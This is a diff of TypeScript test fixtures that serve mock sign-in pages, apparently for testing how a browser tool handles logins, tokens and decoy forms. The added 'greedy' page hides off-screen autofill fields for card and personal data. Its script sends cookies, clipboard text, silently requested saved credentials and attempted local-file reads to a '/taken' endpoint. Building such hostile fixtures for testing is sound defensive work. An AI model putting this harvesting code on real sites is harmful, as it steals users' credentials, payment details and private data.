@@ -170,36 +170,63 @@ export const slowInShadow = `<div id="host"></div><script>
 export const slowByButton = `<div><input aria-label="User"><input type="password" aria-label="Password">
   <button onclick="signIn(...[...document.querySelectorAll('input')].map(({ value }) => value))">Sign in</button></div>`;
 
-/** The session is a token that the script keeps in its session storage. */
-export const inSessionStorage: Answering = (call, state) => {
-  if (call.path === '/api/login') {
-    const { name, word } = JSON.parse(call.body) as Record<string, string>;
-    if (state.fits(name, word)) call.json({ token: state.begin() });
-    else call.json({}, 401);
-  } else if (call.path === '/api/me') {
-    const token = (call.headers.authorization ?? '').replace('Bearer ', '');
-    call.json({}, state.knows(token) ? 200 : 401);
-  } else {
-    call.html(`<div id="app"></div><script>
-      localStorage.setItem('theme', 'dark');
-      async function draw() {
-        const token = sessionStorage.getItem('token');
-        const answer = token && await fetch('/api/me', { headers: { authorization: 'Bearer ' + token } });
-        if (answer && answer.ok) { app.innerHTML = '<h1>Your account</h1><button>Sign out</button>'; return; }
-        app.innerHTML = '<form><input name="name" placeholder="User"><input name="word" type="password"><button>Sign in</button></form>';
-        const [form] = document.forms;
-        form.onsubmit = async (event) => {
-          event.preventDefault();
-          const [name, word] = form.querySelectorAll('input');
-          const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ name: name.value, word: word.value }) });
-          if (!answer.ok) return;
-          sessionStorage.setItem('token', (await answer.json()).token);
-          draw();
-        };
-      }
-      draw();</script>`);
-  }
-};
+/** What a script reads a token by, and what it writes one by. */
+interface Keeping {
+  readonly get: string;
+  readonly set: (token: string) => string;
+}
+
+/** The session is a token that the script keeps. */
+function tokenKept({ get, set }: Keeping): Answering {
+  return (call, state) => {
+    if (call.path === '/api/login') {
+      const { name, word } = JSON.parse(call.body) as Record<string, string>;
+      if (state.fits(name, word)) call.json({ token: state.begin() });
+      else call.json({}, 401);
+    } else if (call.path === '/api/me') {
+      const token = (call.headers.authorization ?? '').replace('Bearer ', '');
+      call.json({}, state.knows(token) ? 200 : 401);
+    } else {
+      call.html(`<div id="app"></div><script>
+        localStorage.setItem('theme', 'dark');
+        async function draw() {
+          const token = ${get};
+          const answer = token && await fetch('/api/me', { headers: { authorization: 'Bearer ' + token } });
+          if (answer && answer.ok) { app.innerHTML = '<h1>Your account</h1><button>Sign out</button>'; return; }
+          app.innerHTML = '<form><input name="name" placeholder="User"><input name="word" type="password"><button>Sign in</button></form>';
+          const [form] = document.forms;
+          form.onsubmit = async (event) => {
+            event.preventDefault();
+            const [name, word] = form.querySelectorAll('input');
+            const answer = await fetch('/api/login', { method: 'POST', body: JSON.stringify({ name: name.value, word: word.value }) });
+            if (!answer.ok) return;
+            ${set('(await answer.json()).token')};
+            draw();
+          };
+        }
+        draw();</script>`);
+    }
+  };
+}
+
+export const inSessionStorage = tokenKept({
+  get: "sessionStorage.getItem('token')",
+  set: (token) => `sessionStorage.setItem('token', ${token})`,
+});
+
+const inStore = (mode: string, ask: string): string => `await new Promise((done) => {
+  const opening = indexedDB.open('tokens');
+  opening.onupgradeneeded = () => opening.result.createObjectStore('kept');
+  opening.onsuccess = () => {
+    const asked = opening.result.transaction('kept', '${mode}').objectStore('kept').${ask};
+    asked.onsuccess = () => done(asked.result);
+  };
+})`;
+
+export const tokenInDatabase = tokenKept({
+  get: inStore('readonly', "get('token')"),
+  set: (token) => `const given = ${token}; ${inStore('readwrite', "put(given, 'token')")}`,
+});
 
 /** The session is kept in an IndexedDB database; another was there before. */
 export const inDatabase = scripted(
@@ -244,6 +271,53 @@ export const decoys: Answering = (call) =>
     <form action="/c"><input name="otp" type="password" autocomplete="one-time-code"><button>Verify</button></form>
     <form action="/d"><input name="cvc" type="password" aria-label="Card code"><button>Pay</button></form>
     <form action="/e"><input name="one" type="password"><input name="two" type="password"><button>Create account</button></form>`);
+
+/** The same, and one form for the account. */
+export const amongDecoys: Answering = (call, state) => {
+  if (call.method === 'POST' && call.path === '/login') {
+    if (!state.fits(call.fields.get('user'), call.fields.get('word'))) return call.html('<p>No.</p>', 401);
+    call.signIn();
+    call.redirect('/account');
+    return;
+  }
+  const page = {
+    ...call,
+    html: (text: string) =>
+      call.html(`${text}<form method="post" action="/login"><input name="user" aria-label="User name">
+        <input name="word" type="password" aria-label="Password"><button>Log in</button></form>`),
+  };
+  decoys(page, state);
+};
+
+/** Takes whatever it can get hold of, in a sign-in with a field for everything. */
+export const greedy: Answering = (call, state) => {
+  if (call.method === 'POST' && call.path === '/login') {
+    call.html(`${tellTale}<h1>Two-factor authentication</h1><form method="post" action="/code">
+      <label>Code <input name="code" autocomplete="one-time-code"></label><button>Verify</button></form>`);
+  } else if (call.method === 'POST' && call.path === '/code') {
+    if (call.fields.get('code') !== state.code) return call.html('<p>No.</p>', 401);
+    call.signIn();
+    call.redirect('/account');
+  } else if (call.path === '/') {
+    const others = ['name', 'email', 'tel', 'street-address', 'cc-number', 'cc-csc', 'bday', 'organization'];
+    call.html(`${tellTale}<h1>Sign in</h1><form method="post" action="/login">
+      <label>User name <input name="user" autocomplete="username"></label>
+      <label>Password <input name="word" type="password" autocomplete="current-password"></label><button>Sign in</button>
+      ${others.map((name) => `<input name="${name}" autocomplete="${name}" tabindex="-1" style="position:absolute;left:-2000px">`).join('')}
+      <input type="file" name="file" hidden></form><script>
+      const one = (asked) => asked.then((given) => given ? String(given) : 'none', () => 'none');
+      const file = (url) => one(fetch(url).then((answer) => answer.text())).then((text) => text === 'none' ? [] : [text]);
+      const soon = (asked) => Promise.race([asked, new Promise((done) => setTimeout(done, 500, 'none'))]);
+      (async () => navigator.sendBeacon('/taken', JSON.stringify({
+        cookies: document.cookie, local: localStorage.length, session: sessionStorage.length,
+        databases: (await indexedDB.databases()).length,
+        files: [...await file('file:///etc/hostname'), ...await file('chrome://version'), ...await file('view-source:/')],
+        credential: await soon(one(navigator.credentials.get({ password: true, mediation: 'silent' }))),
+        clipboard: await soon(one(navigator.clipboard.readText())),
+        name: window.name, opener: opener ? 'some' : 'none', referrer: document.referrer,
+      })))();</script>`);
+  } else call.html('<p>nothing here</p>', 404);
+};
 
 /** The form is in a frame, from the same host or from another one. */
 export function framed(hostname: string): Answering {
